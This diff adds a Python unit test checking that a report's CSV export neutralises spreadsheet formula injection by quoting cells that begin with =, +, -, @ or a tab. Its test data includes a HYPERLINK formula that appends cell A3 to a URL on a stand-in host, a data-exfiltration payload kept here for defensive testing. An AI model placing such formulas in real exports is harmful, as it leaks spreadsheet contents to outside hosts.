@@ -35,6 +35,18 @@ def test_report_rows_and_csv_are_pure() -> None:
     assert "Keine Wissenslücken" in reports.format_gaps([])
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted() -> None:
+    """A declined question or a comment is user text: '=HYPERLINK(…)' must open as text, not as a formula."""
+    rows = [["=HYPERLINK(\"http://x.example/?\"&A3;\"Klick\")", 1, "2026-05-01"], ["+49 123", 2, "-"],
+            ["@SUM(A1)", 3, "\tTab"], ["Was kostet -5 Euro?", 4, "2026-05-02"]]
+    parsed = list(csv.reader(io.StringIO(reports.csv_text(reports.GAP_HEADERS, rows).removeprefix("\ufeff")),
+                             delimiter=";"))
+    assert [r[0] for r in parsed[1:]] == ["'=HYPERLINK(\"http://x.example/?\"&A3;\"Klick\")", "'+49 123", "'@SUM(A1)",
+                                         "Was kostet -5 Euro?"]
+    assert [r[2] for r in parsed[1:]] == ["2026-05-01", "'-", "'\tTab", "2026-05-02"]
+    assert parsed[1][1] == "1"  # numbers stay numbers
+
+
 def fill_logbook(data: Path) -> None:
     book = Logbook(data / "logbook.sqlite")
     for question in ["Wo parke ich?", "wo parke ich? ", "Gibt es WLAN?"]:
